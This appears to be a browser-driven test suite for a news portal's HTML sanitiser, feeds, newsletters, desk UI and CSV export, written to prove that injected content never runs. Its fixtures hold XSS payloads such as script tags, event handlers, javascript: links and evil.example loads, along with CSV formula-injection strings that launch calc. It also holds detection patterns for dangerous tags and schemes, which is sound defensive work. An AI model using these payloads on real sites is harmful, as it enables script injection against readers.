"""Attacks in every field of every kind of input, and all that readers, editors, programs and agents then get.

A real browser parses what is HTML: nothing in it may run, load, send, restyle, or mean something to htmx.
"""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import shutil
from collections.abc import Iterable, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

import broadsheet.faces.web.desk as broadsheet_desk
from broadsheet.publish.markup import safe_markup, safe_prose
from tests.articles import prose
from tests.browser import PATIENCE
from tests.commands import broadsheet
from tests.loopback import Loopback
from tests.newsroom_portal import with_newsletter
from tests.payloads import markup, script_addresses, some_markup
from tests.test_agents import call, talk
from tests.test_desk_web import Browser, desk, hashed  # noqa: F401 - fixtures
from tests.test_rest import read, walk
from tests.test_types import RECIPE, write

NOW = "2026-11-25T08:00:00Z"
_DOMAIN = "easterly.example"

# Walks a page as the browser reads it, templates included, once more after a change of parents, and tells faults.
_WALK = r"""(pages) => {
  const bad = [];
  const html = 'http://www.w3.org/1999/xhtml', svg = 'http://www.w3.org/2000/svg';
  const never = new Set(['object','embed','applet','base','frame','frameset','template','math','portal','marquee',
    'isindex','noscript','plaintext','xmp','noembed','bgsound','keygen','dialog','video']);
  const links = new Set(['href','src','action','formaction','data','poster','background','cite','ping','srcset',
    'xlink:href','manifest','longdesc','usemap','hx-get','hx-post']);
  const walk = (root, name, own) => {
    for (const element of root.querySelectorAll('*')) {
      const tag = element.localName, told = `${name}: ${element.outerHTML.slice(0, 200)}`;
      if (never.has(tag) || tag.includes('-')) bad.push(`element ${told}`);
      if (element.namespaceURI !== html && !(own.svg && element.namespaceURI === svg)) bad.push(`foreign ${told}`);
      if (tag === 'script' && !(own.scripts.some((each) => (element.getAttribute('src') || '').startsWith(each))
          || (own.data && element.type === 'application/ld+json' && JSON.parse(element.textContent)))) bad.push(`script ${told}`);
      if (tag === 'style' && !own.style) bad.push(`style ${told}`);
      if (['form','input','button','select','textarea','label'].includes(tag) && !own.forms) bad.push(`form ${told}`);
      if (tag === 'meta' && /refresh|set-cookie/i.test(element.httpEquiv)) bad.push(`meta ${told}`);
      if (tag === 'link' && !own.links.includes(element.rel)) bad.push(`link ${told}`);
      if (tag === 'iframe' && !/^https:\/\/(www\.youtube-nocookie\.com\/embed|player\.vimeo\.com\/video)\//.test(element.src)) bad.push(`frame ${told}`);
      if (tag === 'a' && element.target && !/noopener/.test(element.rel)) bad.push(`opener ${told}`);
      for (const attribute of element.attributes) {
        const key = attribute.name.toLowerCase(), value = attribute.value;
        if (/^(on|srcdoc|x-|v-|ng-|@|:|is$|ping$|nonce$|slot$)/.test(key)) bad.push(`attribute ${key} ${told}`);
        if (key === 'formaction' && !(own.forms && value.startsWith('/desk/'))) bad.push(`form ${told}`);
        if (/^(style|bgcolor|background|color|face)$/.test(key) && !own.inline) bad.push(`style ${told}`);
        if (/^(data-)?hx-/.test(key) && !own.htmx) bad.push(`htmx ${told}`);
        if (links.has(key) && /^[\x00-\x20]*[a-z][a-z0-9+.\-\x00-\x20]*:/i.test(value)
            && !/^(https?|mailto):/i.test(value)) bad.push(`address ${told}`);
        if (key === 'src' && tag !== 'iframe' && /^([a-z]+:)?\/\//i.test(value)
            && !own.sources.some((each) => value.startsWith(each)) && !(own.audio && tag === 'audio')) bad.push(`loads ${told}`);
      }
      if (element.content instanceof DocumentFragment) walk(element.content, name, own);
    }
  };
  for (const [name, text, own] of pages) {
    const parsed = new DOMParser().parseFromString(text, 'text/html');
    walk(parsed, name, own);
    if (own.again) {
      const live = document.implementation.createHTMLDocument('').body;
      for (const [before, after] of [['', ''], ['<table>', '</table>'], ['<select>', '</select>'], ['<p>', '</p>']]) {
        live.innerHTML = before + parsed.body.innerHTML + after;
        live.innerHTML = live.innerHTML;
        walk(live, name + ' once more', {...own, forms: own.forms || before === '<select>'});
      }
    }
    if (bad.length > 40) break;
  }
  return bad;
}"""
_NOTHING: dict[str, Any] = {
    **dict.fromkeys(("svg", "style", "forms", "inline", "htmx", "data", "audio", "again"), False),
    "links": [],
    "scripts": [],
    "sources": [],
}
_SITE = {
    **_NOTHING,
    "links": ["stylesheet", "alternate", "canonical", "icon", "next", "prev", "license", "search"],
    "data": True,
    "audio": True,
    "scripts": ["times.js?", "../times.js?", "../../times.js?", "../../../times.js?", "/times.js?"],
}
_FRAGMENT = {**_NOTHING, "again": True}


@pytest.fixture(scope="module")
def chromium(browser: Any) -> Any:
    """A page of a browser, to parse with."""
    return browser.new_page()


def faults(chromium: Any, pages: Iterator[tuple[str, str]], own: dict[str, Any]) -> list[str]:
    """What a browser finds in HTML that is none of ours."""
    found = []
    pages = iter(pages)
    while part := list(itertools.islice(pages, 300)):
        found += chromium.evaluate(_WALK, [[name, text, own] for name, text in part])
    return found


_STAGE = "easterly.example"
_TELL = "for (const name of ['alert', 'confirm', 'prompt', 'msgbox', 'print']) window[name] = () => console.log('RAN')"
# What a reader may do: move over everything, press and open it, and follow what is no link into the web.
_EXERCISE = """() => {
  const events = ['mouseover', 'focus', 'focusin', 'pointerdown', 'click', 'toggle', 'beforetoggle', 'animationstart', 'error', 'load'];
  for (const element of document.querySelectorAll('*')) {
    for (const name of events) if (name !== 'click' || !element.closest('form')) element.dispatchEvent(new Event(name));
    if (element.href && !/^(https?|mailto):/.test(element.href)) element.dispatchEvent(new MouseEvent('click'));
  }
  const again = document.createElement('div');
  again.innerHTML = document.body.innerHTML;
  document.body.append(again);
}"""


def ran(
    chromium: Any,
    pages: Iterable[tuple[str, str]],
    files: Mapping[str, Path],
    *,
    policy: bool,
    pictures: bool = False,
) -> list[str]:
    """What pages, shown at their paths, run, ask elsewhere or go to; `files` gives the folder of a path's beginning.

    Without `policy` the browser does not heed the pages' Content-Security-Policy; with it, none may be needed.
    """
    playwright = pytest.importorskip("playwright.sync_api")
    found: list[str] = []
    context = chromium.context.browser.new_context(bypass_csp=not policy)
    context.set_default_timeout(PATIENCE)
    context.add_init_script(_TELL)
    shown = {"": ""}

    def answer(route: Any) -> None:
        parts = urlsplit(route.request.url)
        if parts.hostname != _STAGE:
            players = ("www.youtube-nocookie.com", "player.vimeo.com")
            kinds = {"media", "image"} if pictures else {"media"}
            if parts.hostname not in players and route.request.resource_type not in kinds:
                found.append(f"{shown['']} asks {route.request.url[:200]}")
            route.abort()
            return
        start = next((each for each in files if parts.path.startswith(each)), None)
        file = files[start] / parts.path.removeprefix(start).lstrip("/") if start is not None else None
        if parts.path in shown:
            route.fulfill(body=shown[parts.path], content_type="text/html; charset=utf-8")
        elif file is not None and file.is_file():
            route.fulfill(path=file)
        else:
            route.fulfill(status=404, body="")

    context.route("**/*", answer)
    page = context.new_page()
    page.on("dialog", lambda dialog: (found.append(f"{shown['']} opens {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: found.append(f"{shown['']} opens {popup.url}"))
    page.on(
        "console", lambda said: found.append(f"{shown['']} says {said.text}") if _told(said.text) else None
    )
    for path, text in pages:
        shown |= {"": path, path: text}
        try:
            page.goto(f"https://{_STAGE}{path}")
            page.evaluate(_EXERCISE)
        except playwright.Error as error:
            found.append(f"{path} goes away: {error}")
        if urlsplit(page.url).path != path:
            found.append(f"{path} goes to {page.url[:200]}")
    context.close()
    return found


def _told(text: str) -> bool:
    return text == "RAN" or "Content Security Policy" in text


@pytest.mark.browser
def test_the_stage_sees_what_runs(chromium: Any) -> None:
    """The judge is judged here too: a script, a handler, an address, a frame, a request and a redirect are seen."""
    acts = {
        "<script>alert(1)</script>": "RAN", "<b onmouseover=alert(1)>x</b>": "RAN", "<img src=x onerror=alert(1)>": "RAN",
        "<a href='javascript:alert(1)'>x</a>": "RAN", "<iframe srcdoc='<script>alert(1)</script>'></iframe>": "RAN",
        "<script src=//evil.example/x.js></script>": "asks", "<link rel=stylesheet href=//evil.example/x.css>": "asks",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>": "asks",
    }  # fmt: skip
    pages = [(f"/{number}", f"<body>{act}") for number, act in enumerate(acts)]
    found = ran(chromium, pages, {}, policy=False)
    for number, (act, seen) in enumerate(acts.items()):
        assert any(each.startswith(f"/{number} ") and seen in each for each in found), act
    policy = "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">"
    told = ran(chromium, [("/a", f"{policy}<body><script>alert(1)</script>")], {}, policy=True)
    assert any("Content Security Policy" in each for each in told)


@pytest.mark.browser
def test_nothing_runs_in_what_the_sanitiser_leaves(chromium: Any) -> None:
    attacks = [*markup(), *(f'<a href="{each}">x</a>\n\n[x](<{each}>)' for each in script_addresses())]
    pages = []
    for clean in (safe_markup, safe_prose):
        for number in range(0, len(attacks), 200):
            bodies = "".join(f"<div>{clean(each)}</div>" for each in attacks[number : number + 200])
            pages.append((f"/{clean.__name__}/{number}", f"<!DOCTYPE html><body>{bodies}"))
    assert ran(chromium, pages, {}, policy=False, pictures=True) == []


@pytest.mark.browser
@pytest.mark.parametrize("policy", [False, True])
def test_nothing_runs_on_any_kind_of_page_of_the_site(attacked: Path, chromium: Any, *, policy: bool) -> None:
    """With the pages' policy nothing needs it; without it nothing runs either."""
    public = attacked / "public"
    kinds: dict[str, list[Path]] = {}
    for path in sorted(public.rglob("*.html")):
        kinds.setdefault(path.relative_to(public).parts[0], []).append(path)
    pages = [
        path for paths in kinds.values() for path in paths[:: max(1, len(paths) // (2 if policy else 5))]
    ]
    assert len(pages) > 15
    shown = ((f"/{path.relative_to(public).as_posix()}", path.read_text("utf-8")) for path in pages)
    assert ran(chromium, shown, {"/": public}, policy=policy) == []


@pytest.mark.browser
def test_the_walk_finds_every_act(chromium: Any) -> None:
    """The judge is judged: each act by itself is a fault, harmless markup is none."""
    from tests.payloads import _ACTS

    for act in _ACTS[:-1]:
        assert faults(chromium, [("act", act)], _NOTHING), act
    assert faults(chromium, [("fine", "<p>a <a href='https://a.example/'>b</a></p>")], _FRAGMENT) == []


@pytest.mark.browser
@pytest.mark.parametrize("clean", [safe_markup, safe_prose])
def test_no_attack_survives_the_sanitiser(chromium: Any, clean: Any) -> None:
    own = {**_FRAGMENT, "sources": ["http:", "https:", "//"]}
    assert faults(chromium, ((attack, clean(attack)) for attack in markup()), own) == []
    addresses = [f'<a href="{address}">x</a>\n\n[x](<{address}>)' for address in script_addresses()]
    assert faults(chromium, ((attack, clean(attack)) for attack in addresses), own) == []


def test_what_is_safe_stays_the_same_when_it_is_made_safe_again() -> None:
    for attack in markup():
        once = safe_markup(attack)
        assert safe_markup(once) == once


# The whole way


def _items(texts: list[str], addresses: list[str]) -> dict[str, str]:
    """A content repository in which each type has an item whose every field is an attack."""
    word = itertools.cycle(texts)
    place = itertools.cycle(addresses)
    files = {
        "_config.yml": f"title: Easterly\nurl: https://{_DOMAIN}\ntopic: News\n",
        "_data/topics/00.yaml": "_id: news\nname: News\n",
        "_data/topics/01.yaml": f"_id: odd\nname: {json.dumps(next(word))}\nparent: News\ndescription: {json.dumps(next(word))}\n",
        "_data/organizations/a.md": f"---\n_id: o1\nname: {json.dumps(next(word))}\ndomain: evil.example\n---\n",
    }
    folders = (
        *("_learning", "_samples", "_people", "_communities", "_companies", "_events", "_projects"),
        *("_podcasts", "_products", "_newsletters", "_recipes", "_sponsorships"),
    )
    for folder, number in itertools.product(folders, range(4)):
        body = "\n\n".join(itertools.islice(word, 8))
        if number % 2:
            body = f"<p>It begins as HTML</p>{body}"
        texts_of = {
            name: next(word)
            for name in (
                *("title", "name", "excerpt", "bio", "description", "type", "price", "length", "uid", "size"),
                *("recurrence", "version", "language", "method", "odd", "category", "funding", "ingredients"),
            )
        }
        addresses_of = {
            name: next(place)
            for name in ("originalUrl", "webUrl", "website", "repository", "oddUrl", "url", "logo")
        }
        picture = {"url": next(place), "title": next(word), "attribution": next(word), "odd": next(place)}
        values = {
            **texts_of,
            **addresses_of,
            "publishedDateTime": "2026-11-20T08:00:00Z",
            "startDateTime": f"2026-12-0{number + 1}T08:00:00Z",
            "endDateTime": "2026-12-09T09:00:00Z",
            "featuredContent": f'<iframe src="{next(place)}" onload=alert(1)></iframe>{next(word)}',
            "provider": {"name": next(word), "domain": next(word), "url": next(place), "images": [picture]},
            "affiliation": {"name": next(word), "url": next(place)},
            "location": {"name": next(word), "city": next(word), "url": next(place)},
            "twitter": {"username": next(word), "url": next(place)},
            "enclosure": {"url": next(place), "type": next(word), "bytes": next(word)},
            "sponsor": {"name": next(word), "url": next(place), "logoForLightTheme": next(place)},
            "actions": [{"url": next(place), "type": next(word), "title": next(word)}],
            "chapters": [{"start": next(word), "title": next(word), "url": next(place)}],
            "messages": [{"title": next(word), "description": next(word), "url": next(place)}],
            "schedules": ["2026-11-25"],
            "placements": [next(word)],
            "topics": ["News", next(word)],
            "levels": [next(word)],
            "locations": [next(word)],
            "images": [picture],
        }
        head = "".join(
            f"{name}: {value if name.endswith('DateTime') else json.dumps(value)}\n"
            for name, value in values.items()
        )
        ending = ".html" if folder == "_newsletters" else ".md"
        files[f"{folder}/item{number}{ending}"] = f"---\n{head}---\n{body}\n"
    return files


def _escaped(text: str) -> str:
    """A text in XML or an attribute, without what XML cannot hold."""
    return "".join(f"&#{ord(char)};" for char in text if char in "\t\n" or ord(char) >= 32)


# Each story tells of other things, so that no cluster takes in all of them.
_SUBJECTS = """harbour lantern orchard glacier tannery viaduct abbey quarry beehive windmill lighthouse meadow tramway cellar
vineyard foundry museum reservoir granary chapel ferry bakery observatory canal brewery theatre forest railway library marsh
sawmill pasture embassy cathedral peninsula carnival hospital laundry greenhouse stadium barracks pottery lagoon fortress
nursery aqueduct archive shipyard""".split()


def _story(number: int, texts: list[str], address: str) -> bytes:
    text, more = (_escaped(each) for each in texts)
    subject = " and ".join(_SUBJECTS[number * 2 : number * 2 + 2])
    data = json.dumps(
        {"@type": "NewsArticle", "headline": texts[0], "author": {"name": texts[1], "url": address}}
    )
    data = data.replace("<", "\\u003c")
    return f"""<!DOCTYPE html><html lang="en"><head><title>{text}</title>
<meta property="og:title" content="Story {number} of {subject} {text}"><meta property="og:site_name" content="{more}">
<meta property="og:image" content="{_escaped(address)}"><meta property="og:video" content="{_escaped(address)}">
<meta name="author" content="{more}"><meta name="description" content="{text}"><meta name="keywords" content="{more}">
<link rel="canonical" href="{_escaped(address)}"><link rel="amphtml" href="{_escaped(address)}">
<meta property="article:published_time" content="2026-11-24T{number % 24:02}:00:00Z">
<script type="application/ld+json">{data}</script></head>
<body><article><h1>Story {number} of {subject} {text}</h1>{prose(f"{number} {subject}")}<p>{texts[0]}</p><p>{more}</p></article></body></html>""".encode()


def _calendar(texts: list[str], addresses: list[str]) -> bytes:
    def value(text: str) -> str:
        return re.sub(r"[\x00-\x1f]", " ", text).replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,")

    events = "".join(
        f"BEGIN:VEVENT\r\nUID:e{number}\r\nDTSTART:202612{number % 28 + 1:02}T100000Z\r\nSUMMARY:{value(text)}\r\n"
        f"DESCRIPTION:{value(text)}\r\nLOCATION:{value(text)}\\nBEGIN:VEVENT\r\nURL:{value(address)}\r\n"
        f"ORGANIZER;CN=x:{value(address)}\r\nEND:VEVENT\r\n"
        for number, (text, address) in enumerate(zip(texts, addresses, strict=True))
    )
    return f"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\n{events}END:VCALENDAR\r\n".encode()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A published portal, made by the real commands, all of whose words and addresses are attacks."""
    folder = tmp_path_factory.mktemp("attacked")
    texts, addresses = some_markup(140), list(script_addresses())
    write(folder / "theirs", _items(texts, addresses))
    portal = folder / "portal"
    (portal / "types").mkdir(parents=True)
    (portal / "types" / "recipe.yaml").write_text(RECIPE)
    broadsheet("import", str(folder / "theirs"), "--portal", str(portal))
    with Loopback() as web:
        count = 24
        entries = []
        for number in range(count):
            pair = texts[number * 5 : number * 5 + 2]
            web.page(
                f"/{number}",
                _story(number, pair, addresses[number % len(addresses)]),
                headers={"Content-Type": "text/html"},
            )
            text, more = map(_escaped, pair)
            address = _escaped(addresses[number % len(addresses)])
            entries.append(
                f"<item><title>{text}</title><link>{web.url(f'/{number}')}</link><guid>{more}</guid><author>{more}</author>"
                f"<category>{text}</category><description>{text}</description><content:encoded>{more}</content:encoded>"
                f"<enclosure url='{address}' type='audio/mpeg'/><media:thumbnail url='{address}'/></item>"
            )
        spaces = "xmlns:content='http://purl.org/rss/1.0/modules/content/' xmlns:media='http://search.yahoo.com/mrss/'"
        feed = f"<rss version='2.0' {spaces}><channel><title>{_escaped(texts[3])}</title>{''.join(entries)}</channel></rss>"
        web.page("/feed.xml", feed.encode())
        web.page("/cast.xml", feed.encode())
        web.page("/fair.ics", _calendar(texts[: len(addresses)], addresses))
        sources = (
            f"fetch: {{allow_private: [127.0.0.1], delay: 0s, attempts: 1}}\njudging: {{threshold: 0, embedding: none}}\n"
            f"sources:\n  - feed: {web.url('/feed.xml')}\n  - {{feed: {web.url('/cast.xml')}, type: podcast}}\n"
            f"  - calendar: {web.url('/fair.ics')}\n"
        )
        settings = portal / "portal.yaml"
        kept = re.sub(r"(?m)^(sources|fetch|judging|mode):.*(\n[ #-].*)*\n?", "", settings.read_text())
        settings.write_text(kept + sources)
        broadsheet("run", "--portal", str(portal), "--now", NOW, "--workers", "1", "--quiet", expect=1)
    return portal


@pytest.mark.browser
def test_no_page_of_the_site_holds_an_attack(attacked: Path, chromium: Any) -> None:
    pages = sorted((attacked / "public").rglob("*.html"))
    assert len(pages) > 60
    assert any("recipes" in path.parts for path in pages)
    search = [path for path in pages if path.parent.name == "search"]  # a form and a script of ours
    others = ((str(path), path.read_text("utf-8")) for path in pages if path not in search)
    assert faults(chromium, others, _SITE) == []
    own = {**_SITE, "forms": True, "scripts": ["../times.js?", "search.js?"]}
    assert faults(chromium, ((str(path), path.read_text("utf-8")) for path in search), own) == []


_ADDRESS_KEYS = re.compile(r"(?i)(?:^|.)(?:url|href|website|repository|logo\w*)$|^(?:id|guid)$")
_MARKUP_KEYS = frozenset({"content", "content_html", "featuredContent", "html"})


def _values(value: Any, key: str = "") -> Iterator[tuple[str, str]]:
    if isinstance(value, dict):
        for name, each in value.items():
            yield from _values(each, name)
    elif isinstance(value, list):
        for each in value:
            yield from _values(each, key)
    elif isinstance(value, str):
        yield key, value


def _script(address: str) -> bool:
    """Whether a browser would run or show what the address itself holds."""
    bare = re.sub(r"[\x00-\x20]", "", address).lower()
    return bool(re.match(r"(?:javascript|data|vbscript|file|blob|filesystem|mhtml|view-source):", bare))


def _checked(document: Any) -> list[str]:
    """The fragments of HTML in a JSON document, whose addresses are all of the web."""
    for key, value in _values(document):
        if _ADDRESS_KEYS.search(key) and value != "":
            assert not _script(value), (key, value)
    return [value for key, value in _values(document) if key in _MARKUP_KEYS]


@pytest.mark.browser
def test_no_document_of_the_static_api_and_no_json_feed_holds_an_attack(
    attacked: Path, chromium: Any
) -> None:
    paths = sorted((attacked / "public").rglob("*.json"))
    assert len(paths) > 60
    fragments = [(str(path), each) for path in paths for each in _checked(json.loads(path.read_bytes()))]
    assert fragments
    players = {**_FRAGMENT, "sources": ["http:", "https:", "//"]}
    assert faults(chromium, fragments, players) == []


def test_no_feed_and_no_sitemap_holds_an_attack(attacked: Path) -> None:
    from lxml import etree

    paths = [path for path in (attacked / "public").rglob("*") if path.suffix in {".xml", ".atom", ".rss"}]
    assert len(paths) > 10
    for path in paths:
        root = etree.parse(path, etree.XMLParser(resolve_entities=False)).getroot()
        assert root.getroottree().docinfo.doctype == ""
        for node in root.iter("*"):
            space, _, name = node.tag.rpartition("}")
            assert "xhtml" not in space, path
            for key, value in node.attrib.items():
                if key in {"href", "url", "src", "uri"} and value:
                    assert value.startswith(("http://", "https://")), (path, value)
            if name in {"link", "loc", "image", "url", "uri", "id", "docs"} and (node.text or "").strip():
                assert node.text.startswith(("http://", "https://", "urn:", "tag:")), (path, node.text)
            if name in {"description", "encoded", "summary", "content"} and node.get("type") in {
                None,
                "html",
            }:
                assert "<" not in (node.text or ""), (path, node.text)


def _words_of_feeds(public: Path) -> Iterator[tuple[str, list[str]]]:
    """Every text, attribute and value of every feed, as a reader has it that knows XML and JSON."""
    from lxml import etree

    names = ("feed.xml", "atom.xml", "feed.json")
    for path in sorted(each for name in names for each in public.rglob(name)):
        if path.suffix == ".json":
            yield str(path), [value for _, value in _values(json.loads(path.read_bytes()))]
        else:
            nodes = list(etree.parse(path).getroot().iter("*"))
            yield str(path), [text for node in nodes for text in (node.text or "", *node.attrib.values())]


@pytest.mark.browser
def test_nothing_runs_in_a_reader_that_takes_every_word_of_a_feed_for_html(
    attacked: Path, chromium: Any
) -> None:
    feeds = list(_words_of_feeds(attacked / "public"))
    assert len(feeds) > 8
    words = sorted({word for _, found in feeds for word in found})
    assert sum("<\u2060" in word for word in words) > 30, "the attacks are there"
    parts = (words[number : number + 200] for number in range(0, len(words), 200))
    told = [(f"/words/{number}", json.dumps(part)) for number, part in enumerate(parts)]
    pages = [
        (path, f"<!DOCTYPE html><body>{''.join(f'<div>{word}</div>' for word in json.loads(part))}")
        for path, part in told
    ]
    assert ran(chromium, pages, {}, policy=False) == []
    assert faults(chromium, iter(pages), {**_NOTHING, "again": True}) == []


def test_no_calendar_holds_more_than_its_events(attacked: Path) -> None:
    from icalendar import Calendar

    paths = list((attacked / "public").rglob("*.ics"))
    assert len(paths) > 4
    for path in paths:
        body = path.read_bytes()
        assert b"\n" not in body.replace(b"\r\n", b"")
        for event in Calendar.from_ical(body).walk("VEVENT"):
            assert set(event) <= {
                "UID",
                "DTSTAMP",
                "DTSTART",
                "DTEND",
                "SUMMARY",
                "DESCRIPTION",
                "LOCATION",
                "URL",
            }
            assert str(event["URL"]).startswith(("http://", "https://"))


def test_no_content_file_of_ours_holds_a_key_or_a_liquid_tag_outside_of_its_value(attacked: Path) -> None:
    files = list((attacked / "content" / "_news").iterdir())
    assert len(files) > 15
    for path in files:
        text = path.read_text("utf-8")
        assert text.count("\n---") == 1
        head, _, body = text.removeprefix("---\n").partition("\n---")
        assert body.strip() == ""
        for line in head.split("\n"):
            assert re.match(r"(?:[A-Za-z]+:|\s+-? ?[A-Za-z]+:|\s+- |$)", line), line


@pytest.mark.browser
def test_no_letter_holds_an_attack(attacked: Path, tmp_path: Path, chromium: Any) -> None:
    portal = shutil.copytree(attacked, tmp_path / "portal", symlinks=True)
    with_newsletter(portal, 25)
    words = ("--portal", str(portal), "--now", NOW)
    broadsheet("newsletter", "build", *words)
    attack = some_markup(50)
    broadsheet(
        "newsletter",
        "edit",
        "--subject",
        attack[7],
        "--intro",
        "\n".join(attack[:9]),
        "--portal",
        str(portal),
    )
    broadsheet("newsletter", "preview", "--to", str(tmp_path / "letter"), *words)
    letters = sorted((tmp_path / "letter").rglob("*.html"))
    assert letters
    own = {
        **_NOTHING,
        "style": True,
        "inline": True,
        "sources": [f"https://{_DOMAIN}/"],
        "links": ["canonical"],
    }
    found = faults(chromium, ((str(path), path.read_text("utf-8")) for path in letters), own)
    assert found == []
    shown = ((f"/letter/{path.name}", path.read_text("utf-8")) for path in letters)
    assert ran(chromium, shown, {}, policy=False) == []
    for path in (tmp_path / "letter").rglob("*.txt"):
        text = path.read_text("utf-8")
        assert all(char.isprintable() or char in "\n\u200b" for char in text)
    for path in letters:
        assert "{{" not in path.read_text("utf-8")
        assert "{%" not in path.read_text("utf-8")


@pytest.mark.browser
def test_no_answer_of_the_api_and_no_page_of_the_desk_holds_an_attack(
    attacked: Path,
    tmp_path: Path,
    hashed: Any,  # noqa: F811
    chromium: Any,
) -> None:
    portal = shutil.copytree(attacked, tmp_path / "portal", symlinks=True)
    desk_own = {
        **_NOTHING, "forms": True, "htmx": True, "svg": True, "links": ["stylesheet", "icon"],
        "scripts": ["/desk/static/"],
    }  # fmt: skip
    with desk(portal, hashed) as address:
        listed = walk(address, "/stories", limit=100)
        assert len(listed) > 10
        fragments = _checked(listed)
        for story in listed[:8]:
            for path in (f"/stories/{story['id']}", f"/stories/{story['id']}/explanation"):
                fragments += _checked(read(address, path))
            fragments += _checked(read(address, f"/clusters/{story['cluster']}"))
        for path in ("/front", "/clusters", "/topics", "/providers", "/editions"):
            fragments += _checked(read(address, path))
        fragments += _checked(read(address, "/search", q="story", facets="true"))
        assert faults(chromium, [("api", each) for each in fragments], _FRAGMENT) == []
        browser = Browser(address)
        browser.sign_in("owner")
        attack = some_markup(30)
        first = listed[0]["id"]
        for text in attack[:6]:
            browser.post("/desk/decide", {"kind": "reject", "story": first, "reason": text})
            browser.post(
                "/desk/decide",
                {"kind": "edit", "story": first, "title": text, "excerpt": text, "topic": ["News", text]},
            )
        refused = (
            browser.post("/desk/sources/test", {"location": attack[9]}),
            browser.post("/desk/topics", {"name": attack[8], "keywords": attack[7]}),
        )
        pages = [("form", answer.text) for answer in refused]
        paths = (
            *(
                "/desk/",
                "/desk/?decided=all",
                "/desk/decisions",
                "/desk/sources",
                "/desk/topics",
                "/desk/dashboard",
            ),
            *(f"/desk/?q={quote(text)}&topic={quote(text)}" for text in attack[:8]),
            *(f"/desk/story/{story['id']}" for story in listed[:8]),
            *(f"/desk/{quote(text, safe='')}" for text in attack[:8]),
            f"/desk/story/{quote(attack[3], safe='')}",
        )
        pages += [(path, browser.get(path).text) for path in paths]
        assert faults(chromium, pages, desk_own) == []
    static = Path(broadsheet_desk.__file__).parent / "static"
    shown = [(f"/shown/{number}", text) for number, (_, text) in enumerate(pages)]
    assert ran(chromium, shown, {"/desk/static/": static}, policy=False) == []


def test_no_answer_of_the_agents_server_holds_a_script_address(attacked: Path) -> None:
    async def conversation(client: Any) -> None:
        front = await call(client, "front_page", limit=20)
        found = await call(client, "search", query="story", limit=20)
        assert front["items"]
        _checked([front, found])
        for story in found["items"][:5]:
            _checked(await call(client, "story", id=story["id"]))
            _checked(await call(client, "explain", id=story["id"]))
            _checked(await call(client, "cluster", id=story["cluster"]))

    with ThreadPoolExecutor(1) as thread:  # the browser holds the event loop of this one
        thread.submit(talk, attacked, conversation).result()


def test_no_cell_of_an_export_is_a_formula(attacked: Path, tmp_path: Path) -> None:
    portal = shutil.copytree(attacked, tmp_path / "portal", symlinks=True)
    names = [lead + rest for lead in ("=", "+", "-", "@", "\t=", "\r=", " =", "|", "%", "\uff1d", "'=") for rest in ("cmd|' /C calc'!A0", "1+1", 'HYPERLINK("//e.example")')]  # fmt: skip
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(("address", "name"))
    writer.writerows((f"reader{number}@mail.example", name) for number, name in enumerate(names))
    broadsheet("subscribers", "import", "-", "--portal", str(portal), stdin=out.getvalue().encode(), expect=0)
    told = broadsheet("subscribers", "export", "--portal", str(portal)).stdout.decode()
    rows = list(csv.reader(io.StringIO(told)))
    assert len(rows) == len(names) + 1
    for cell in itertools.chain.from_iterable(rows):
        assert not re.match(r"\s*[=+\-@|%\t\r\uff1d]", cell), cell
